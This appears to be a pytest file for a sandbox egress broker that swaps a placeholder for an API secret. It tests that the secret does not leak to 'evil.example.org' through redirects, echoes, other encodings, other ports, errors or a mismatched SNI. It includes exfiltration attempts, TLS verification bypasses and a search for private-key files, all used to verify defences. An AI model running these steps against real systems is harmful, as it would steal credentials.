"""
Secrets of egress: what attacks make of placeholders, and of TLS that the broker ends. Catalogue cases 281 to 286
and 400 to 402.

What they are for is in tests/integration/test_egress_secrets.py. In each control the host is one of the secret's, or
nobody is between.
"""

from __future__ import annotations

import base64
import ssl
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from kit.attack import within
from kit.box import Box, control
from kit.egress import rows
from kit.egress_hosts import trusting
from kit.egress_secrets import BROKEN, SPELLINGS, VALUE, Mirrors, mirrors, sealed

SERVERS = mirrors
BROKER = "the broker puts values in, a process of the daemon's, and no lock of the job's"


@pytest.fixture(scope="module")
def box(host: Mirrors, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    """The secret is for api.example.org, and for headers."""
    with sealed(tmp_path_factory.mktemp("sealed"), host) as made:
        yield made


@pytest.fixture(scope="module")
def loose(host: Mirrors, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    """The secret is for every host of example.org, wherever it stands in a request."""
    with sealed(tmp_path_factory.mktemp("loose"), host, hosts=["*.example.org"],
                **{"in": ["header", "query", "body"]}) as made:
        yield made


#: Sends `pieces`, in writes of `size` bytes, to `connect` by TLS for `name`, or in the clear; tells what comes back.
SEND = """
import os, socket, ssl
said = b""
try:
    with socket.create_connection((connect, port), 60) as sock:
        if name:
            context = ssl.create_default_context(cafile=trust or None)
            sock = context.wrap_socket(sock, server_hostname=name)
        for piece in pieces:
            data = piece.replace("PLACEHOLDER", os.environ["API_KEY"]).encode()
            for at in range(0, len(data), size):
                sock.sendall(data[at:at + size])
        while piece := sock.recv(65536):
            said += piece
        sock.close()
except (OSError, ssl.SSLError) as error:
    said += type(error).__name__.encode()
tell(said.decode())
"""


def send(box: Box, host: Mirrors, pieces: list[str], *, connect: str = "api", name: str | None = None, trust: str = "",
         tls: bool = True, size: int = 1 << 16) -> str:
    name = (connect if name is None else name) + ".example.org" if tls else ""
    said: str = within(box, SEND, pieces=pieces, connect=f"{connect}.example.org", name=name, trust=trust,
                       size=size, port=host.tls if tls else host.http)
    return said


def head(host: Mirrors, *, to: str = "api", path: str = "/", more: str = "X-Key: PLACEHOLDER\r\n",
         tls: bool = True) -> str:
    return (f"GET {path} HTTP/1.1\r\nHost: {to}.example.org:{host.tls if tls else host.http}\r\nConnection: close\r\n"
            f"{more}\r\n")


def arrived(host: Mirrors, since: int) -> str:
    return b"".join(host.said[since:]).decode()


@pytest.mark.smoke
@pytest.mark.no_single_lock(BROKER)
def test_c281_cannot_have_a_secret_put_in_for_another_host(box: Box, loose: Box, host: Mirrors) -> None:
    since = len(host.said)
    with control():
        send(loose, host, [head(host, to="evil")], connect="evil")
        assert VALUE in arrived(host, since)

    since = len(host.said)
    # Its TLS isn't ended: the job sees the host's own certificate, which it doesn't know, and has to look away.
    blind = SEND.replace("cafile=trust or None)", "cafile=None); context.check_hostname = False; "
                                                  "context.verify_mode = ssl.CERT_NONE")
    said = within(box, blind, pieces=[head(host, to="evil")], connect="evil.example.org", name="evil.example.org",
                  trust="", size=1 << 16, port=host.tls)
    assert "x-key: leeward-" in said.lower()
    assert "leeward-" in arrived(host, since)
    assert VALUE not in arrived(host, since)


@pytest.mark.no_single_lock(BROKER)
def test_c282_cannot_have_a_secret_put_elsewhere_in_a_request(box: Box, loose: Box, host: Mirrors) -> None:
    """In the path, the query and the body; split over writes, within the placeholder; and in the clear."""
    body = head(host, more="Content-Length: 40\r\n") + "PLACEHOLDER"
    with control():
        since = len(host.said)
        send(loose, host, [head(host, path="/?PLACEHOLDER", more="X-Key: PLACEHOLDER\r\n")])
        assert "sk-live" in arrived(host, since).splitlines()[0]
        assert VALUE in arrived(host, since)

    since = len(host.said)
    for asked, size in ((head(host, path="/PLACEHOLDER?PLACEHOLDER", more=""), 1 << 16), (body, 7),
                        (head(host, path="/PLACEHOLDER", more="Y: 1\r\n"), 1)):
        assert " 200 " in send(box, host, [asked], size=size)
    assert " 200 " in send(box, host, [head(host, tls=False)], tls=False)
    assert 4 == len(host.said) - since
    assert "sk-live" not in arrived(host, since)
    assert arrived(host, since).count("leeward-") >= 4


@pytest.mark.no_single_lock(BROKER)
def test_c283_cannot_have_a_secret_echoed(box: Box, host: Mirrors) -> None:
    """Whole, in pieces that cut it, by a part of the body, and compressed."""
    with control():
        asked = urllib.request.Request(f"https://127.0.0.1:{host.tls}/", headers={"X-Key": VALUE})
        context = trusting()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with urllib.request.urlopen(asked, timeout=60, context=context) as got:
            assert VALUE in got.read().decode()

    for path, more in (("/", ""), ("/pieces", ""), ("/", "Range: bytes=40-60\r\n"), ("/compressed", "")):
        since = len(host.said)
        said = send(box, host, [head(host, path=path, more=f"Authorization: PLACEHOLDER\r\nX: PLACEHOLDER\r\n{more}")])
        assert VALUE in arrived(host, since)
        assert "range" not in arrived(host, since)
        assert "sk-live" not in said
        assert ("can't be searched" if path == "/compressed" else "leeward-") in said


@pytest.mark.no_single_lock(BROKER)
def test_c284_cannot_have_a_secret_follow_a_redirect(box: Box, loose: Box, host: Mirrors) -> None:
    """By a client that sends its headers to whoever it is sent to; and in the address to which it is sent."""
    follow = """
import os, ssl, urllib.request
said = ""
try:
    context = ssl.create_default_context()
    asked = urllib.request.Request(url, headers={"X-Key": os.environ["API_KEY"]})
    with urllib.request.urlopen(asked, timeout=60, context=context) as got:
        said = got.read().decode()
except OSError as error:
    said = str(error)
tell(said)
"""
    url = f"https://api.example.org:{host.tls}/away/evil.example.org:{host.tls}/there"
    with control():
        since = len(host.said)
        within(loose, follow, url=url)
        assert 2 == len(host.said) - since
        assert VALUE in host.last()

    since = len(host.said)
    said = within(box, follow.replace("create_default_context()", "_create_unverified_context()"), url=url)
    assert 2 == len(host.said) - since
    assert "/there" in said
    assert VALUE not in host.last()
    assert "leeward-" in host.last()


@pytest.mark.no_single_lock(BROKER)
def test_c285_cannot_say_another_name_than_the_one_connected_to(box: Box, host: Mirrors) -> None:
    """A hello for the secret's host on another one's address; a Host field for another one, and the other way round."""
    with control():
        since = len(host.said)
        send(box, host, [head(host)])
        assert VALUE in arrived(host, since)

    since = len(host.said)
    for connect, name in (("evil", "api"), ("api", "evil")):
        assert "Reset" in send(box, host, [head(host, to=name)], connect=connect, name=name)
    assert " 403 " in send(box, host, [head(host, to="evil")])
    assert len(host.said) == since


@pytest.mark.no_single_lock(BROKER)
def test_c286_cannot_use_the_authority_of_another_policys_sandboxes(box: Box, loose: Box, host: Mirrors,
                                                                   tmp_path: Path) -> None:
    """Its certificate isn't trusted beyond its own sandboxes, and no sandbox has its key."""
    read = """
import glob, os
last = open(os.environ["SSL_CERT_FILE"]).read().split("-----BEGIN CERTIFICATE-----")[-1]
keys = [path for path in glob.glob(os.path.dirname(os.path.realpath(os.environ["SSL_CERT_FILE"])) + "/**",
        recursive=True) if os.path.isfile(path) and b"PRIVATE" in open(path, "rb").read()]
tell(["-----BEGIN CERTIFICATE-----" + last, keys, "PRIVATE" in repr(dict(os.environ))])
"""
    other, keys, named = within(loose, read)
    assert not keys
    assert not named
    own = "open(os.environ['SSL_CERT_FILE']).read().rpartition('-----BEGIN CERTIFICATE-----')"
    for trust, ends in ((f"''.join({own}[1:])", True), (repr(other), False)):
        code = f"open('/tmp/ca.pem', 'w').write({trust})\n" + SEND
        said = within(box, code, pieces=[head(host)], connect="api.example.org", name="api.example.org",
                      trust="/tmp/ca.pem", size=1 << 16, port=host.tls)
        if ends:
            with control():
                assert " 200 " in said
        else:
            assert "SSLCertVerificationError" == said


@pytest.mark.no_single_lock(BROKER)
def test_c400_cannot_have_a_secret_in_another_spelling(box: Box, host: Mirrors) -> None:
    """As servers escape what they give back; also cut anywhere, as the host's chunks are."""
    with control():
        spelled = {name: form(b"Bearer " + VALUE.encode()) for name, form in SPELLINGS.items()}
        assert len(SPELLINGS) == len({*spelled.values(), VALUE.encode()}) - 1

    for name in SPELLINGS:
        since = len(host.said)
        said = send(box, host, [head(host, path=f"/spelled/{name}", more="Authorization: Bearer PLACEHOLDER\r\n")])
        assert VALUE in arrived(host, since)
        _, _, body = said.partition("\r\n\r\n")
        assert body.strip(), said
        assert not any(form(VALUE.encode()).decode()[4:-4] in body for form in SPELLINGS.values()), (name, body)
        if name.startswith("base64"):
            text = base64.b64decode("".join(body.split("\r\n")[1::2]))
            assert b"eeward-" in text  # the letters at both ends have bits of their neighbours
            assert VALUE[2:-2].encode() not in text


@pytest.mark.no_single_lock(BROKER)
def test_c401_cannot_have_a_secret_put_in_at_another_port(host: Mirrors, tmp_path: Path) -> None:
    with control(), sealed(tmp_path, host, hosts=[f"api.example.org:{host.tls}"]) as named:
        since = len(host.said)
        assert " 200 " in send(named, host, [head(host)])
        assert VALUE in arrived(host, since)

    # Its TLS isn't ended there: the job sees the host's own certificate, which it doesn't know, and has to look away.
    blind = SEND.replace("cafile=trust or None)", "cafile=None); context.check_hostname = False; "
                                                  "context.verify_mode = ssl.CERT_NONE")
    elsewhere = [f"api.example.org:{port}" for port in (443, 80, 8080, host.http)]
    with sealed(tmp_path, host, hosts=elsewhere) as other:
        since = len(host.said)
        said = within(other, blind, pieces=[head(host)], connect="api.example.org", name="api.example.org", trust="",
                      size=1 << 16, port=host.tls)
        assert " 200 " in said
        assert " 200 " in send(other, host, [head(host, tls=False)], tls=False)
        assert 2 == len(host.said) - since
        assert VALUE not in arrived(host, since)
        assert "leeward-" in arrived(host, since)


@pytest.mark.no_single_lock(BROKER)
def test_c402_cannot_have_a_secret_in_the_text_of_an_error(box: Box, host: Mirrors) -> None:
    """Neither the sandbox nor the egress log has a part of it, whatever a host breaks where it gives the secret back."""
    with control():
        assert all(VALUE.encode() in broken % {b"given": VALUE.encode()} for broken in BROKEN.values() if b"%" in broken)

    for name in BROKEN:
        since = len(host.said)
        said = send(box, host, [head(host, path=f"/broken/{name}", more="Authorization: PLACEHOLDER\r\n")])
        assert VALUE in arrived(host, since)
        assert not any(VALUE[at:at + 6] in said for at in range(len(VALUE) - 6)), (name, said)
        assert not said or said.startswith(("HTTP/1.1 502 ", "HTTP/1.1 200 ")), (name, said)
    texts = "".join(repr(row) for row in rows(box))
    assert not any(VALUE[at:at + 6] in texts for at in range(len(VALUE) - 6)), texts
